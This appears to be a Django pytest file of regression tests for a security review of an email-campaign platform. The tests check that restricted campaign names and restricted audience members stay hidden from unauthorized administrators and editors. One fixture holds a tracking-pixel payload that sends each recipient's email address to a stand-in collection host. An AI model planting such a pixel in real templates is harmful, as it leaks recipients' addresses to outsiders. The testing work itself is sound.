"""Tenth outside review of issue 10 (docs/security-review-10.md), authorization
half: each test reproduced its finding on the code before the fix. SQLite by
default, PostgreSQL + Redis with DATABASE_URL / REDIS_URL."""

from __future__ import annotations

import pytest
from guardian.shortcuts import assign_perm

from audiences.models import Audience
from campaigns.models import Campaign, CampaignVersion
from channels.models import ChannelConfiguration

pytestmark = pytest.mark.django_db

SECRET = "Merger announcement"


@pytest.fixture
def secret_campaign(db):
    """A restricted draft whose version uses an open audience and an open configuration."""
    audience = Audience.objects.create(name="Everyone", kind=Audience.Kind.UPLOAD)
    config = ChannelConfiguration.objects.create(
        name="Newsletter", channel="email", purpose="marketing"
    )
    campaign = Campaign.objects.create(name=SECRET, status="draft", restricted=True)
    version = CampaignVersion.objects.create(
        campaign=campaign, number=1, audience=audience, channel_configuration=config
    )
    campaign.draft_version = version
    campaign.save()
    return campaign, audience, config


def _pages(client, audience, config):
    yield client.get(f"/admin/audiences/audience/{audience.pk}/delete/")
    yield client.get(f"/admin/channels/channelconfiguration/{config.pk}/delete/")
    yield client.post(
        "/admin/audiences/audience/",
        {"action": "delete_selected", "_selected_action": [audience.pk]},
    )
    yield client.post(
        "/admin/channels/channelconfiguration/",
        {"action": "delete_selected", "_selected_action": [config.pk]},
    )


# --- 1: delete confirmations named restricted campaigns ---------------------------


def test_delete_confirmations_do_not_name_restricted_campaigns(
    secret_campaign, administrator, login
):
    """Deleting an open audience or configuration that a restricted campaign's
    version uses is refused (PROTECT), and Django's confirmation page listed
    the protected objects by name — "Campaign version: Merger announcement v1" —
    to an administrator not granted the campaign (restricted means restricted
    from administrators too, SPEC §2): the name of every restricted campaign
    using any configuration or audience they may see. Counted, not named."""
    _campaign, audience, config = secret_campaign
    for page in _pages(login(administrator), audience, config):
        assert page.status_code == 200
        body = page.content.decode()
        assert SECRET not in body
        assert "Campaign version: one you may not see" in body
    assert Audience.objects.filter(pk=audience.pk).exists()
    assert ChannelConfiguration.objects.filter(pk=config.pk).exists()


def test_granted_administrators_and_superusers_still_read_the_name(
    secret_campaign, administrator, login, make_user
):
    campaign, audience, config = secret_campaign
    assign_perm("campaigns.view_campaign", administrator, campaign)
    root = make_user("root", superuser=True)
    for user in (administrator, root):
        for page in _pages(login(user), audience, config):
            assert f"{SECRET} v1" in page.content.decode()


# --- 6: an editor's words reached people only the campaign's owner may see ---------

OSLO = {"all": [{"field": "attributes.city", "op": "eq", "value": "Oslo"}]}
PIXEL = (
    '<p>Hi<img src="https://collect.example/p?e={{ profile.email }}"></p>'
    '<a href="{{ unsubscribe_url }}">Unsubscribe</a>'
)


@pytest.fixture
def hidden_list(db):
    """Ann is known only through a restricted upload audience; Bob is open."""
    from audiences.models import AudienceMember, Profile

    vip = Audience.objects.create(name="VIP list", kind="upload", restricted=True, size=1)
    ann = Profile.objects.create(
        email="ann@example.com", consent_email=True, attributes={"city": "Oslo"}
    )
    AudienceMember.objects.create(audience=vip, profile=ann)
    Profile.objects.create(email="bob@example.com", consent_email=True, attributes={"city": "Oslo"})
    return vip


def _targets(campaign) -> set[str]:
    from campaigns.engine.materialize import insert_deliveries
    from campaigns.models import Delivery, Run

    campaign.refresh_from_db()
    version = campaign.live_version or campaign.draft_version
    run = Run.objects.create(campaign=campaign, version=version, kind=Run.Kind.ONE_SHOT)
    insert_deliveries(run)
    return set(Delivery.objects.filter(run=run).values_list("address", flat=True))


def _oslo_draft(owner):
    from tests.campaigns.lifecycle_helpers import email_config, ready_email

    oslo = Audience.objects.create(name="Oslo", kind=Audience.Kind.RULE, rule=OSLO)
    return ready_email(owner, audience=oslo, channel_configuration=email_config())


def test_an_approvers_edit_of_a_superusers_draft_does_not_reach_a_list_hidden_from_them(
    hidden_list, approver, api_for, make_user
):
    """A run sent to the profiles its owner may see (review 2): a superuser's
    open draft reached Ann, known only through a restricted list. An approver
    not granted the list edited the draft — a pixel carrying
    ``{{ profile.email }}`` to a server of theirs — and activated it: Ann got
    the approver's words, and the approver her address when she opened it (the
    restricted list, member by member). The runs now leave out whom any of the
    campaign's writers may not see."""
    root = make_user("root", superuser=True)
    campaign = _oslo_draft(root)
    assert _targets(campaign) == {"ann@example.com", "bob@example.com"}  # the owner's view

    api = api_for(approver)
    html = {"subject": "Hi", "html": PIXEL, "text": "Hi"}
    assert api.patch(f"/campaigns/{campaign.pk}", {"content": html}).status_code == 200
    assert api.post(f"/campaigns/{campaign.pk}/activate", {}).status_code == 202

    assert _targets(campaign) == {"bob@example.com"}
    campaign.refresh_from_db()
    assert campaign.editors == [approver.pk]


def test_a_granted_editor_still_reaches_the_list(hidden_list, approver, api_for, make_user):
    from guardian.shortcuts import assign_perm

    root = make_user("root", superuser=True)
    campaign = _oslo_draft(root)
    assign_perm("audiences.view_audience", approver, hidden_list)
    html = {"subject": "Hi", "html": PIXEL, "text": "Hi"}
    assert (
        api_for(approver).patch(f"/campaigns/{campaign.pk}", {"content": html}).status_code == 200
    )
    assert _targets(campaign) == {"ann@example.com", "bob@example.com"}


def test_the_owners_own_edits_change_nothing(hidden_list, make_user, api_for):
    root = make_user("root", superuser=True)
    campaign = _oslo_draft(root)
    html = {"subject": "Hi", "html": PIXEL, "text": "Hi"}
    assert api_for(root).patch(f"/campaigns/{campaign.pk}", {"content": html}).status_code == 200
    campaign.refresh_from_db()
    assert campaign.editors == []
    assert _targets(campaign) == {"ann@example.com", "bob@example.com"}


def test_a_copy_keeps_its_writers(hidden_list, approver, make_user, api_for):
    """Duplicating the approver's edit (by the superuser) does not launder it:
    the copied words are the approver's too."""
    root = make_user("root", superuser=True)
    campaign = _oslo_draft(root)
    html = {"subject": "Hi", "html": PIXEL, "text": "Hi"}
    api_for(approver).patch(f"/campaigns/{campaign.pk}", {"content": html})
    copy = api_for(root).post(f"/campaigns/{campaign.pk}/duplicate", {}).json()
    duplicate = Campaign.objects.get(pk=copy["id"])
    assert duplicate.editors == [approver.pk]
    assert _targets(duplicate) == {"bob@example.com"}


@pytest.mark.django_db(transaction=True)
def test_nor_does_a_unitary_trigger_of_a_campaign_an_editor_wrote(
    api_for, manager, make_user, queued, fake_transport
):
    """The dispatcher's check of unitary triggers (review 3) asks the writers too."""
    from audiences.models import AudienceMember, Profile
    from campaigns.engine import dispatch
    from tests.campaigns.test_triggers import api_campaign, body

    vip = Audience.objects.create(name="VIP", kind="upload", restricted=True, size=1)
    secret = Profile.objects.create(email="secret@example.com")
    AudienceMember.objects.create(audience=vip, profile=secret)
    Profile.objects.create(email="public@example.com")
    root = make_user("root", superuser=True)
    campaign = api_campaign()
    Campaign.objects.filter(pk=campaign.pk).update(created_by=root, editors=[manager.pk])
    sent = api_for(manager).post(
        "/executions/unitary", body(campaign, "r-1", "secret@example.com", "public@example.com")
    )
    assert sent.status_code == 202, sent.content
    dispatch.dispatch_batch()
    assert fake_transport.sent == ["public@example.com"]
